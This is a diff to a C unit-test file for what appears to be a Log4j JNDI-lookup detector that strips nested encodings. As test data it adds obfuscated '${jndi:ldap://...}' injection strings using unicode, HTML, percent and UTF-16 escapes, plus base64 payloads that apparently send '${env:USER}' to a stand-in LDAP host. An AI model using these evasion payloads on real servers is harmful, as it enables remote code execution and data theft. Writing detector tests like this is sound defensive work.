@@ -118,6 +118,18 @@ static void layers_that_only_a_name_shows(void)
          "percent plus", "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"},
         {SPAN_LITERAL("JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="), "ldap://h/ab", "base64 quoted-printable",
          "JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="},
+        /* what nobody has to encode */
+        {SPAN_LITERAL("${jndi:ldap:/\\u002fh/\\u0061}"), "ldap://h/a", "json-unicode",
+         "${jndi:ldap:/\\u002fh/\\u0061}"},
+        {SPAN_LITERAL("${jndi:ld\\x61p://h/\\141}"), "ldap://h/a", "js-escape",
+         "${jndi:ld\\x61p://h/\\141}"},
+        {SPAN_LITERAL("${jndi:ldap://&#104;/&sol;a}"), "ldap://h//a", "html",
+         "${jndi:ldap://&#104;/&sol;a}"},
+        {SPAN_LITERAL("${jndi:ldap:%u002f/h%c0%af}"), "ldap://h/", "percent percent-u overlong",
+         "${jndi:ldap:%u002f/h%c0%af}"},
+        {SPAN_LITERAL("${jndi:ldap://h/%41%20}"), "ldap://h/%41%20", "", "${jndi:ldap://h/%41%20}"},
+        {SPAN_LITERAL("${jndi:ldap://h/%e2%82%ac}"), "ldap://h/%e2%82%ac", "",
+         "${jndi:ldap://h/%e2%82%ac}"},
         /* not in all of the text, or of what nobody encodes */
         {SPAN_LITERAL("${jndi:ldap://h/?a=1&b=3D1}"), "ldap://h/?a=1&b=3D1", "",
          "${jndi:ldap://h/?a=1&b=3D1}"},
@@ -344,6 +356,40 @@ static void utf16_behind_other_bytes(void)
         CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
         CU_ASSERT(name_is(rows[i].name));
         CU_ASSERT(encodings_are(rows[i].encodings));
+    }
+}
+
+/* Escapes within UTF-16 whose NULs, or all of whose bytes, are escaped again. */
+static void escapes_within_escaped_utf16(void)
+{
+    static const char *const texts[] = {
+        "%25%002%004%00{%00j%00n%00d%00i%00:%00x%00:%00y%00}%00",
+        "x=%00%5C%00u%000%000%002%004%00{%00j%00n%00d%00i%00:%00x%00:%00y%00}&z",
+        "\\u0026\\u0000#\\u00003\\u00006\\u0000;\\u0000{\\u0000j\\u0000n\\u0000d\\u0000i\\u0000:"
+        "\\u0000x\\u0000:\\u0000y\\u0000}\\u0000",
+        "%24%00{%00j%00n%00d%00%24%00{%00u%00p%00p%00e%00r%00:%001%01}%00:%00x%00:%00y%00}%00",
+        "%00%24%00{%00j%00n%00d%00%24%00{%00u%00p%00p%00e%00r%00:%011%00}%00:%00x%00:%00y%00}",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
+        peel(span_str(texts[i]));
+        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
+        CU_ASSERT(name_is("x:y"));
+    }
+}
+
+/* Base64 of UTF-16 whose look-ups are not closed: neither from a wrong beginning nor with the
+ * quotation mark before it as half of a character it is an attack. */
+static void utf16_in_base64_is_read_once(void)
+{
+    static const char *const texts[] = {
+        "//48AGEAPgBhACQAewBqAG4AZABpACQAewBlAG4AdgA6AHgAOgAtACQAewA6ADoALQA6AH0AbABkAH0AYQBwADoAL"
+        "wAvACQAewBlAG4AdgA6AFUAUwBFAFIAfQAuAHgAPAAvAGEAPgA=",
+        "\"JAB7AGQAYQB0AGUAOgAnACQAewBqAG4AZABpACQAewBsAG8AdwBlAHIAOgA6AH0AbABkAGEAcAA6AC8ALwB4AC4A"
+        "ZQB4AGEAbQBwAGwAZQAvAGEAfQAkAHsAaABvAHMAdABOAGEAbQBlAH0A\"",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
+        peel(span_str(texts[i]));
+        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_CONDITIONAL);
     }
 }
 
@@ -612,6 +658,8 @@ static CU_TestInfo layer_tests[] = {
     {"the outer layer is undone too", the_outer_layer_is_undone_too},
     {"layers in each other's way", layers_in_each_others_way},
     {"UTF-16 behind other bytes", utf16_behind_other_bytes},
+    {"escapes within escaped UTF-16", escapes_within_escaped_utf16},
+    {"UTF-16 in base64 is read once", utf16_in_base64_is_read_once},
     {"base64 over other layers", base64_over_other_layers},
     CU_TEST_INFO_NULL,
 };
